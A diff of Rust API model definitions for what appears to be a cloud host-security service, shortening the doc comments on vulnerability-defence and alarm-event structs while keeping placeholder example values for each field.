-    /// Example: `7`
+    /// `Deadline`; example: `7`
     pub deadline: u64,
 
-    /// `LicenseNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `LicenseNum`; example: `10`
     pub license_num: u64,
 
-    /// `IsApplyFor`: a boolean.
-    ///
-    /// Example: `false`
+    /// `IsApplyFor`; example: `false`
     pub is_apply_for: bool,
 
-    /// `SourceType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `SourceType`; example: `0`
     pub source_type: u64,
 }
 
@@ -13616,101 +8912,63 @@ pub struct VersionWhiteConfig {
 /// Returned in the output of [`DescribeVertexDetail`](super::DescribeVertexDetail).
 #[tc_model]
 pub struct VertexDetail {
-    /// `Type`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: i64,
 
-    /// `Time`: a string.
-    ///
-    /// Example: `"2022-11-29 00:00:00"`
+    /// `Time`; example: `"2022-11-29 00:00:00"`
     pub time: String,
 
-    /// `AlarmInfo`: a list of [`AlarmInfo`] objects.
-    ///
-    /// Example: `[{"AlarmId":"dd8c40c6","Status":0}]`
+    /// `AlarmInfo`; example: `[{"AlarmId":"dd8c40c6","Status":0}]`
     pub alarm_info: Vec<AlarmInfo>,
 
-    /// `ProcName`: a string.
-    ///
-    /// Example: `"ps"`
+    /// `ProcName`; example: `"ps"`
     pub proc_name: String,
 
-    /// `CmdLine`: a string.
-    ///
-    /// Example: `"ps -ef"`
+    /// `CmdLine`; example: `"ps -ef"`
     pub cmd_line: String,
 
-    /// `Pid`: a string.
-    ///
-    /// Example: `"1122"`
+    /// `Pid`; example: `"1122"`
     pub pid: String,
 
-    /// `FileMd5`: a string.
-    ///
-    /// Example: `"472c65af3f43136472d1a383f5******"`
+    /// `FileMd5`; example: `"472c65af3f43136472d1a383f5******"`
     pub file_md5: String,
 
-    /// `FileContent`: a string.
-    ///
-    /// Example: `"/a/b/file"`
+    /// `FileContent`; example: `"/a/b/file"`
     pub file_content: String,
 
-    /// `FilePath`: a string.
-    ///
-    /// Example: `"/run/****"`
+    /// `FilePath`; example: `"/run/****"`
     pub file_path: String,
 
-    /// `FileCreateTime`: a string.
-    ///
-    /// Example: `"2022-11-29 00:00:00"`
+    /// `FileCreateTime`; example: `"2022-11-29 00:00:00"`
     pub file_create_time: String,
 
-    /// `Address`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `Address`; example: `"1.1.1.1"`
     pub address: String,
 
-    /// `DstPort`: an unsigned 64-bit integer.
-    ///
-    /// Example: `8080`
+    /// `DstPort`; example: `8080`
     pub dst_port: u64,
 
-    /// `SrcIP`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `SrcIP`; example: `"1.1.1.1"`
     #[tc(rename = "SrcIP")]
     pub src_ip: String,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"root:user"`
+    /// `User`; example: `"root:user"`
     pub user: String,
 
-    /// `VulName`: a string.
-    ///
-    /// Example: `"fastjson-******"`
+    /// `VulName`; example: `"fastjson-******"`
     pub vul_name: String,
 
-    /// `VulTime`: a string.
-    ///
-    /// Example: `"2022-11-29 00:00:00"`
+    /// `VulTime`; example: `"2022-11-29 00:00:00"`
     pub vul_time: String,
 
-    /// `HttpContent`: a string.
-    ///
-    /// Example: `"POST / HTTP/1.1 / *******"`
+    /// `HttpContent`; example: `"POST / HTTP/1.1 / *******"`
     pub http_content: String,
 
-    /// `VulSrcIP`: a string.
-    ///
-    /// Example: `"1.1.1.1"`
+    /// `VulSrcIP`; example: `"1.1.1.1"`
     #[tc(rename = "VulSrcIP")]
     pub vul_src_ip: String,
 
-    /// `VertexId`: a string.
-    ///
-    /// Example: `"3717f61fc3f09c9065f851df2460****"`
+    /// `VertexId`; example: `"3717f61fc3f09c9065f851df2460****"`
     pub vertex_id: String,
 }
 
@@ -13719,74 +8977,46 @@ pub struct VertexDetail {
 /// Returned in the output of [`DescribeAlarmIncidentNodes`](super::DescribeAlarmIncidentNodes).
 #[tc_model]
 pub struct VertexInfo {
-    /// `Type`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Type`; example: `1`
     pub r#type: i64,
 
-    /// `Vid`: a string.
-    ///
-    /// Example: `"738cbb17dea872888b31912c0b52a2f7"`
+    /// `Vid`; example: `"738cbb17dea872888b31912c0b52a2f7"`
     pub vid: String,
 
-    /// `ParentVid`: a string.
-    ///
-    /// Example: `"738cbb17dea872888b31912c0b52a2f7"`
+    /// `ParentVid`; example: `"738cbb17dea872888b31912c0b52a2f7"`
     pub parent_vid: String,
 
-    /// `IsLeaf`: a boolean.
-    ///
-    /// Example: `true`
+    /// `IsLeaf`; example: `true`
     pub is_leaf: bool,
 
-    /// `ProcNamePrefix`: a string.
-    ///
-    /// Example: `"/bin/a"`
+    /// `ProcNamePrefix`; example: `"/bin/a"`
     pub proc_name_prefix: String,
 
-    /// `ProcNameMd5`: a string.
-    ///
-    /// Example: `"b50b7128905fb0a604366eceaa106c9d"`
+    /// `ProcNameMd5`; example: `"b50b7128905fb0a604366eceaa106c9d"`
     pub proc_name_md5: String,
 
-    /// `CmdLinePrefix`: a string.
-    ///
-    /// Example: `"/bin/aa"`
+    /// `CmdLinePrefix`; example: `"/bin/aa"`
     pub cmd_line_prefix: String,
 
-    /// `CmdLineMd5`: a string.
-    ///
-    /// Example: `"b50b7128905fb0a604366eceaa106c9d"`
+    /// `CmdLineMd5`; example: `"b50b7128905fb0a604366eceaa106c9d"`
     pub cmd_line_md5: String,
 
-    /// `FilePathPrefix`: a string.
-    ///
-    /// Example: `"/root/shbin"`
+    /// `FilePathPrefix`; example: `"/root/shbin"`
     pub file_path_prefix: String,
 
-    /// `AddressPrefix`: a string.
-    ///
-    /// Example: `"192.168.1.1"`
+    /// `AddressPrefix`; example: `"192.168.1.1"`
     pub address_prefix: String,
 
-    /// `IsWeDetect`: a boolean.
-    ///
-    /// Example: `true`
+    /// `IsWeDetect`; example: `true`
     pub is_we_detect: bool,
 
-    /// `IsAlarm`: a boolean.
-    ///
-    /// Example: `false`
+    /// `IsAlarm`; example: `false`
     pub is_alarm: bool,
 
-    /// `FilePathMd5`: a string.
-    ///
-    /// Example: `"b50b7128905fb0a604366eceaa106c9d"`
+    /// `FilePathMd5`; example: `"b50b7128905fb0a604366eceaa106c9d"`
     pub file_path_md5: String,
 
-    /// `AddressMd5`: a string.
-    ///
-    /// Example: `"b50b7128905fb0a604366eceaa106c9d"`
+    /// `AddressMd5`; example: `"b50b7128905fb0a604366eceaa106c9d"`
     pub address_md5: String,
 }
 
@@ -13795,102 +9025,64 @@ pub struct VertexInfo {
 /// Returned in the output of [`DescribeVulDefenceEvent`](super::DescribeVulDefenceEvent).
 #[tc_model]
 pub struct VulDefenceEvent {
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `14004`
+    /// `VulId`; example: `14004`
     pub vul_id: u64,
 
-    /// `VulName`: a string.
-    ///
-    /// Example: `"漏洞"`
+    /// `VulName`; example: `"漏洞"`
     pub vul_name: String,
 
-    /// `CveId`: a string.
-    ///
-    /// Example: `"CVE-2014-8500"`
+    /// `CveId`; example: `"CVE-2014-8500"`
     pub cve_id: String,
 
-    /// `Id`: a signed 64-bit integer.
-    ///
-    /// Example: `13844`
+    /// `Id`; example: `13844`
     pub id: i64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"d92d723e-4aac-4f4a-bbf9-e5430e29d289"`
+    /// `Quuid`; example: `"d92d723e-4aac-4f4a-bbf9-e5430e29d289"`
     pub quuid: String,
 
-    /// `Alias`: a string.
-    ///
-    /// Example: `"testmachine"`
+    /// `Alias`; example: `"testmachine"`
     pub alias: String,
 
-    /// `PrivateIp`: a string.
-    ///
-    /// Example: `"10.2.3.1"`
+    /// `PrivateIp`; example: `"10.2.3.1"`
     pub private_ip: String,
 
-    /// `PublicIp`: a string.
-    ///
-    /// Example: `"111.2.3.1"`
+    /// `PublicIp`; example: `"111.2.3.1"`
     pub public_ip: String,
 
-    /// `EventType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `EventType`; example: `1`
     pub event_type: u64,
 
-    /// `SourceIp`: a string.
-    ///
-    /// Example: `"11.2.3.1"`
+    /// `SourceIp`; example: `"11.2.3.1"`
     pub source_ip: String,
 
-    /// `City`: a string.
-    ///
-    /// Example: `"深圳"`
+    /// `City`; example: `"深圳"`
     pub city: String,
 
-    /// `SourcePort`: a list of unsigned 64-bit integers.
-    ///
-    /// Example: `[50001,50002]`
+    /// `SourcePort`; example: `[50001,50002]`
     pub source_port: Vec<u64>,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `CreateTime`; example: `"2021-01-20 16:17:11"`
     pub create_time: String,
 
-    /// `MergeTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `MergeTime`; example: `"2021-01-20 16:17:11"`
     pub merge_time: String,
 
-    /// `Count`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Count`; example: `1`
     pub count: i64,
 
-    /// `Status`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: i64,
 
-    /// `UpgradeType`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `UpgradeType`; example: `1`
     pub upgrade_type: i64,
 
-    /// `FixType`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `FixType`; example: `1`
     pub fix_type: i64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"d92d723e-4aac-4f4a-bbf9-e5430e29d289"`
+    /// `Uuid`; example: `"d92d723e-4aac-4f4a-bbf9-e5430e29d289"`
     pub uuid: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -13899,125 +9091,79 @@ pub struct VulDefenceEvent {
 /// Returned in the output of [`DescribeDefenceEventDetail`](super::DescribeDefenceEventDetail).
 #[tc_model]
 pub struct VulDefenceEventDetail {
-    /// `VulName`: a string.
-    ///
-    /// Example: `"漏洞"`
+    /// `VulName`; example: `"漏洞"`
     pub vul_name: String,
 
-    /// `CveId`: a string.
-    ///
-    /// Example: `"cve-**"`
+    /// `CveId`; example: `"cve-**"`
     pub cve_id: String,
 
-    /// `Id`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: i64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"d92d723e-4aac-4f4a-bbf9-e5430e29d289"`
+    /// `Quuid`; example: `"d92d723e-4aac-4f4a-bbf9-e5430e29d289"`
     pub quuid: String,
 
-    /// `Alias`: a string.
-    ///
-    /// Example: `"test"`
+    /// `Alias`; example: `"test"`
     pub alias: String,
 
-    /// `PrivateIp`: a string.
-    ///
-    /// Example: `"10.2.3.1"`
+    /// `PrivateIp`; example: `"10.2.3.1"`
     pub private_ip: String,
 
-    /// `PublicIp`: a string.
-    ///
-    /// Example: `"111.2.3.1"`
+    /// `PublicIp`; example: `"111.2.3.1"`
     pub public_ip: String,
 
-    /// `EventType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `EventType`; example: `1`
     pub event_type: u64,
 
-    /// `SourceIp`: a string.
-    ///
-    /// Example: `"11.2.3.1"`
+    /// `SourceIp`; example: `"11.2.3.1"`
     pub source_ip: String,
 
-    /// `City`: a string.
-    ///
-    /// Example: `"深圳"`
+    /// `City`; example: `"深圳"`
     pub city: String,
 
-    /// `SourcePort`: a list of unsigned 64-bit integers.
-    ///
-    /// Example: `[1,3]`
+    /// `SourcePort`; example: `[1,3]`
     pub source_port: Vec<u64>,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `CreateTime`; example: `"2021-01-20 16:17:11"`
     pub create_time: String,
 
-    /// `MergeTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `MergeTime`; example: `"2021-01-20 16:17:11"`
     pub merge_time: String,
 
-    /// `Count`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Count`; example: `1`
     pub count: i64,
 
-    /// `Status`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: i64,
 
-    /// `MachineStatus`: a string.
-    ///
-    /// Example: `"ONLINE"`
+    /// `MachineStatus`; example: `"ONLINE"`
     pub machine_status: String,
 
-    /// `Description`: a string.
-    ///
-    /// Example: `"描述信息"`
+    /// `Description`; example: `"描述信息"`
     pub description: String,
 
-    /// `Fix`: a string.
-    ///
-    /// Example: `"修复建议"`
+    /// `Fix`; example: `"修复建议"`
     pub fix: String,
 
-    /// `NetworkPayload`: a string.
-    ///
-    /// Example: `"攻击payload"`
+    /// `NetworkPayload`; example: `"攻击payload"`
     pub network_payload: String,
 
-    /// `Pid`: a signed 64-bit integer.
+    /// `Pid`
     pub pid: i64,
 
-    /// `MainClass`: a string.
-    ///
-    /// Example: `"sf.class"`
+    /// `MainClass`; example: `"sf.class"`
     pub main_class: String,
 
-    /// `StackTrace`: a string.
-    ///
-    /// Example: `"at org.java.util"`
+    /// `StackTrace`; example: `"at org.java.util"`
     pub stack_trace: String,
 
-    /// `EventDetail`: a string.
-    ///
-    /// Example: `"[     {         \"name\": \"jndiurl\",         \"value\": \"http://whoa"`
+    /// `EventDetail`; example: `"[     {         \"name\": \"jndiurl\",         \"value\": \"http://whoa"`
     pub event_detail: String,
 
-    /// `ExceptionPstree`: a string.
-    ///
-    /// Example: `"ppid ssh"`
+    /// `ExceptionPstree`; example: `"ppid ssh"`
     pub exception_pstree: String,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 }
 
@@ -14026,32 +9172,22 @@ pub struct VulDefenceEventDetail {
 /// Returned in the output of [`DescribeVulDefenceOverview`](super::DescribeVulDefenceOverview).
 #[tc_model]
 pub struct VulDefenceOverview {
-    /// `Enable`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Enable`; example: `1`
     pub enable: i64,
 
-    /// `DefendHostCount`: a signed 64-bit integer.
-    ///
-    /// Example: `12`
+    /// `DefendHostCount`; example: `12`
     pub defend_host_count: i64,
 
-    /// `ExceptionCount`: a signed 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `ExceptionCount`; example: `2`
     pub exception_count: i64,
 
-    /// `AttackCounts`: a list of signed 64-bit integers.
-    ///
-    /// Example: `[0,0,20,0,0,0,0,17,11,2,33,49,105,80]`
+    /// `AttackCounts`; example: `[0,0,20,0,0,0,0,17,11,2,33,49,105,80]`
     pub attack_counts: Vec<i64>,
 
-    /// `DefendCounts`: a list of signed 64-bit integers.
-    ///
-    /// Example: `[0,0,20,0,0,0,0,17,11,2,33,49,105,80]`
+    /// `DefendCounts`; example: `[0,0,20,0,0,0,0,17,11,2,33,49,105,80]`
     pub defend_counts: Vec<i64>,
 
-    /// `Date`: a list of strings.
+    /// `Date`
     pub date: Vec<String>,
 }
 
@@ -14060,29 +9196,19 @@ pub struct VulDefenceOverview {
 /// Returned in the output of [`DescribeVulDefencePluginDetail`](super::DescribeVulDefencePluginDetail).
 #[tc_model]
 pub struct VulDefencePluginDetail {
-    /// `Pid`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Pid`; example: `1`
     pub pid: i64,
 
-    /// `MainClass`: a string.
-    ///
-    /// Example: `"Main.class"`
+    /// `MainClass`; example: `"Main.class"`
     pub main_class: String,
 
-    /// `Status`: a signed 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `Status`; example: `2`
     pub status: i64,
 
-    /// `ErrorLog`: a string.
-    ///
-    /// Example: `"[Error] 注入失败"`
+    /// `ErrorLog`; example: `"[Error] 注入失败"`
     pub error_log: String,
 
-    /// `InjectLog`: a string.
-    ///
-    /// Example: `"[Info] 注入成功"`
+    /// `InjectLog`; example: `"[Info] 注入成功"`
     pub inject_log: String,
 }
 
@@ -14091,39 +9217,25 @@ pub struct VulDefencePluginDetail {
 /// Returned in the output of [`DescribeVulDefencePluginStatus`](super::DescribeVulDefencePluginStatus).
 #[tc_model]
 pub struct VulDefencePluginStatus {
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"d92d723e-4aac-4f4a-bbf9-e5430e29d289"`
+    /// `Quuid`; example: `"d92d723e-4aac-4f4a-bbf9-e5430e29d289"`
     pub quuid: String,
 
-    /// `Alias`: a string.
-    ///
-    /// Example: `"machinename"`
+    /// `Alias`; example: `"machinename"`
     pub alias: String,
 
-    /// `PrivateIp`: a string.
-    ///
-    /// Example: `"10.1.1.2"`
+    /// `PrivateIp`; example: `"10.1.1.2"`
     pub private_ip: String,
 
-    /// `PublicIp`: a string.
-    ///
-    /// Example: `"112.23.2.1"`
+    /// `PublicIp`; example: `"112.23.2.1"`
     pub public_ip: String,
 
-    /// `Exception`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Exception`; example: `1`
     pub exception: i64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `CreateTime`; example: `"2021-01-20 16:17:11"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-01-20 16:17:11"`
+    /// `ModifyTime`; example: `"2021-01-20 16:17:11"`
     pub modify_time: String,
 }
 
@@ -14132,44 +9244,28 @@ pub struct VulDefencePluginStatus {
 /// Returned in the output of [`DescribeVulDefenceList`](super::DescribeVulDefenceList).
 #[tc_model]
 pub struct VulDefenceRangeDetail {
-    /// `VulName`: a string.
-    ///
-    /// Example: `"Apache OFBiz 不安全的反序列化和跨站脚本漏洞"`
+    /// `VulName`; example: `"Apache OFBiz 不安全的反序列化和跨站脚本漏洞"`
     pub vul_name: String,
 
-    /// `Label`: a string.
-    ///
-    /// Example: `"远程利用,存在EXP,存在POC"`
+    /// `Label`; example: `"远程利用,存在EXP,存在POC"`
     pub label: String,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `Level`; example: `2`
     pub level: u64,
 
-    /// `CvssScore`: a floating-point number.
-    ///
-    /// Example: `6.1`
+    /// `CvssScore`; example: `6.1`
     pub cvss_score: f64,
 
-    /// `CveId`: a string.
-    ///
-    /// Example: `"CVE-2020-9496"`
+    /// `CveId`; example: `"CVE-2020-9496"`
     pub cve_id: String,
 
-    /// `PublishTime`: a string.
-    ///
-    /// Example: `"2020-07-16 00:15:00"`
+    /// `PublishTime`; example: `"2020-07-16 00:15:00"`
     pub publish_time: String,
 
-    /// `VulId`: a signed 64-bit integer.
-    ///
-    /// Example: `105068`
+    /// `VulId`; example: `105068`
     pub vul_id: i64,
 
-    /// `Status`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: Option<i64>,
 }
 
@@ -14178,72 +9274,46 @@ pub struct VulDefenceRangeDetail {
 /// Returned in the output of [`DescribeVulDefenceSettingList`](super::DescribeVulDefenceSettingList).
 #[tc_model]
 pub struct VulDefenceSetting {
-    /// `StrategyName`: a string.
-    ///
-    /// Example: `"漏洞防御"`
+    /// `StrategyName`; example: `"漏洞防御"`
     pub strategy_name: Option<String>,
 
-    /// `StrategyType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `StrategyType`; example: `0`
     pub strategy_type: Option<u64>,
 
-    /// `ThreatLevel`: an unsigned 64-bit integer.
+    /// `ThreatLevel`
     pub threat_level: Option<u64>,
 
-    /// `Scope`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Scope`; example: `1`
     pub scope: Option<u64>,
 
-    /// `SupportVulNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `180`
+    /// `SupportVulNum`; example: `180`
     pub support_vul_num: Option<u64>,
 
-    /// `Enable`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Enable`; example: `0`
     pub enable: Option<u64>,
 
-    /// `AppId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `AppId`; example: `1`
     pub app_id: Option<u64>,
 
-    /// `MemberId`: a string.
-    ///
-    /// Example: `"qq"`
+    /// `MemberId`; example: `"qq"`
     pub member_id: Option<String>,
 
-    /// `StrategyAction`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `StrategyAction`; example: `0`
     pub strategy_action: Option<u64>,
 
-    /// `Uin`: a string.
-    ///
-    /// Example: `"111"`
+    /// `Uin`; example: `"111"`
     pub uin: Option<String>,
 
-    /// `Nickname`: a string.
-    ///
-    /// Example: `"aa"`
+    /// `Nickname`; example: `"aa"`
     pub nickname: Option<String>,
 
-    /// `DefenceType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `DefenceType`; example: `0`
     pub defence_type: Option<u64>,
 
-    /// `InstanceNum`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10`
+    /// `InstanceNum`; example: `10`
     pub instance_num: Option<u64>,
 
-    /// `StrategyId`: a string.
-    ///
-    /// Example: `"123"`
+    /// `StrategyId`; example: `"123"`
     pub strategy_id: Option<String>,
 }
 
@@ -14252,59 +9322,37 @@ pub struct VulDefenceSetting {
 /// Returned in the output of [`DescribeScanTaskDetails`](super::DescribeScanTaskDetails).
 #[tc_model]
 pub struct VulDetailInfo {
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VulId`; example: `1`
     pub vul_id: u64,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"漏洞"`
+    /// `Name`; example: `"漏洞"`
     pub name: String,
 
-    /// `CveId`: a string.
-    ///
-    /// Example: `"cve_**"`
+    /// `CveId`; example: `"cve_**"`
     pub cve_id: String,
 
-    /// `VulCategory`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `VulCategory`; example: `1`
     pub vul_category: u64,
 
-    /// `Descript`: a string.
-    ///
-    /// Example: `"desc of this vul"`
+    /// `Descript`; example: `"desc of this vul"`
     pub descript: String,
 
-    /// `Fix`: a string.
-    ///
-    /// Example: `"修复"`
+    /// `Fix`; example: `"修复"`
     pub fix: String,
 
-    /// `Reference`: a string.
-    ///
-    /// Example: `"afafa"`
+    /// `Reference`; example: `"afafa"`
     pub reference: String,
 
-    /// `CvssScore`: a floating-point number.
-    ///
-    /// Example: `1.1`
+    /// `CvssScore`; example: `1.1`
     pub cvss_score: f64,
 
-    /// `Cvss`: a string.
-    ///
-    /// Example: `"dadad"`
+    /// `Cvss`; example: `"dadad"`
     pub cvss: String,
 
-    /// `PublishTime`: a string.
-    ///
-    /// Example: `"11"`
+    /// `PublishTime`; example: `"11"`
     pub publish_time: String,
 }
 
@@ -14313,117 +9361,73 @@ pub struct VulDetailInfo {
 /// Returned in the output of [`DescribeVulEffectHostList`](super::DescribeVulEffectHostList).
 #[tc_model]
 pub struct VulEffectHostList {
-    /// `EventId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `EventId`; example: `1`
     pub event_id: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `LastTime`: a string.
-    ///
-    /// Example: `"2021-03-24 16:37:57"`
+    /// `LastTime`; example: `"2021-03-24 16:37:57"`
     pub last_time: String,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"cssfsfsf"`
+    /// `Quuid`; example: `"cssfsfsf"`
     pub quuid: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"shjkdhsjkc"`
+    /// `Uuid`; example: `"shjkdhsjkc"`
     pub uuid: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"10.12.78.56"`
+    /// `HostIp`; example: `"10.12.78.56"`
     pub host_ip: String,
 
-    /// `AliasName`: a string.
-    ///
-    /// Example: `"主机"`
+    /// `AliasName`; example: `"主机"`
     pub alias_name: String,
 
-    /// `Tags`: a list of strings.
-    ///
-    /// Example: `["tag-01"]`
+    /// `Tags`; example: `["tag-01"]`
     pub tags: Vec<String>,
 
-    /// `Description`: a string.
-    ///
-    /// Example: `"说明"`
+    /// `Description`; example: `"说明"`
     pub description: String,
 
-    /// `HostVersion`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `HostVersion`; example: `1`
     pub host_version: u64,
 
-    /// `IsSupportAutoFix`: an unsigned 64-bit integer.
-    ///
-    /// Example: `2`
+    /// `IsSupportAutoFix`; example: `2`
     pub is_support_auto_fix: u64,
 
-    /// `FixStatusMsg`: a string.
-    ///
-    /// Example: `"修复超时"`
+    /// `FixStatusMsg`; example: `"修复超时"`
     pub fix_status_msg: String,
 
-    /// `FirstDiscoveryTime`: a string.
-    ///
-    /// Example: `"2021-03-24 16:37:57"`
+    /// `FirstDiscoveryTime`; example: `"2021-03-24 16:37:57"`
     pub first_discovery_time: String,
 
-    /// `InstanceState`: a string.
-    ///
-    /// Example: `"运行中"`
+    /// `InstanceState`; example: `"运行中"`
     pub instance_state: String,
 
-    /// `PublicIpAddresses`: a string.
-    ///
-    /// Example: `"120.12.78.73"`
+    /// `PublicIpAddresses`; example: `"120.12.78.73"`
     pub public_ip_addresses: String,
 
-    /// `CloudTags`: a list of [`Tags`] objects.
-    ///
-    /// Example: `[{"TagKey":"tagKey","TagValue":"tagValue"}]`
+    /// `CloudTags`; example: `[{"TagKey":"tagKey","TagValue":"tagValue"}]`
     pub cloud_tags: Vec<Tags>,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `MachineType`: a string.
-    ///
-    /// Example: `"CVM"`
+    /// `MachineType`; example: `"CVM"`
     pub machine_type: Option<String>,
 
-    /// `RegionId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `17`
+    /// `RegionId`; example: `17`
     pub region_id: Option<u64>,
 
-    /// `HasSnapshot`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `HasSnapshot`; example: `0`
     pub has_snapshot: Option<u64>,
 
-    /// `LatestFixTime`: a string.
-    ///
-    /// Example: `"2021-03-24 16:37:57"`
+    /// `LatestFixTime`; example: `"2021-03-24 16:37:57"`
     pub latest_fix_time: Option<String>,
 
-    /// `DescriptionEn`: a string.
-    ///
-    /// Example: `"说明英文"`
+    /// `DescriptionEn`; example: `"说明英文"`
     pub description_en: Option<String>,
 }
 
@@ -14432,39 +9436,25 @@ pub struct VulEffectHostList {
 /// Returned in the output of [`DescribeVulEffectModules`](super::DescribeVulEffectModules).
 #[tc_model]
 pub struct VulEffectModuleInfo {
-    /// `Name`: a string.
-    ///
-    /// Example: `"net-wsion"`
+    /// `Name`; example: `"net-wsion"`
     pub name: String,
 
-    /// `Uuids`: a list of strings.
-    ///
-    /// Example: `["e5b4724c-49af-46ab-bd84-cdbae897e7e0"]`
+    /// `Uuids`; example: `["e5b4724c-49af-46ab-bd84-cdbae897e7e0"]`
     pub uuids: Vec<String>,
 
-    /// `Rule`: a string.
-    ///
-    /// Example: `"npt version less than 2.0.0"`
+    /// `Rule`; example: `"npt version less than 2.0.0"`
     pub rule: String,
 
-    /// `Path`: a string.
-    ///
-    /// Example: `"/root/"`
+    /// `Path`; example: `"/root/"`
     pub path: String,
 
-    /// `Version`: a string.
-    ///
-    /// Example: `"1.1.1"`
+    /// `Version`; example: `"1.1.1"`
     pub version: String,
 
-    /// `FixCmd`: a string.
-    ///
-    /// Example: `"sudo yum update openssl"`
+    /// `FixCmd`; example: `"sudo yum update openssl"`
     pub fix_cmd: String,
 
-    /// `Quuids`: a list of strings.
-    ///
-    /// Example: `["e5b4724c-49af-46ab-bd84-cdbae897e7e0"]`
+    /// `Quuids`; example: `["e5b4724c-49af-46ab-bd84-cdbae897e7e0"]`
     pub quuids: Vec<String>,
 }
 
@@ -14473,44 +9463,28 @@ pub struct VulEffectModuleInfo {
 /// Returned in the output of [`DescribeVulEmergentMsg`](super::DescribeVulEmergentMsg).
 #[tc_model]
 pub struct VulEmergentMsgInfo {
-    /// `VulId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `105375`
+    /// `VulId`; example: `105375`
     pub vul_id: u64,
 
-    /// `PublishTime`: a string.
-    ///
-    /// Example: `"2024-09-13 14:1****"`
+    /// `PublishTime`; example: `"2024-09-13 14:1****"`
     pub publish_time: String,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"Spring 目录遍历漏洞（CVE-2024-38****"`
+    /// `Name`; example: `"Spring 目录遍历漏洞（CVE-2024-38****"`
     pub name: String,
 
-    /// `NameEn`: a string.
-    ///
-    /// Example: `"Spring directory traversal vulnerability (CVE-2024-38****"`
+    /// `NameEn`; example: `"Spring directory traversal vulnerability (CVE-2024-38****"`
     pub name_en: Option<String>,
 
-    /// `SupportFix`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `SupportFix`; example: `0`
     pub support_fix: Option<i64>,
 
-    /// `SupportDefense`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `SupportDefense`; example: `1`
     pub support_defense: Option<i64>,
 
-    /// `KbId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `112`
+    /// `KbId`; example: `112`
     pub kb_id: Option<u64>,
 
-    /// `KbNumber`: a string.
-    ///
-    /// Example: `"KB33425"`
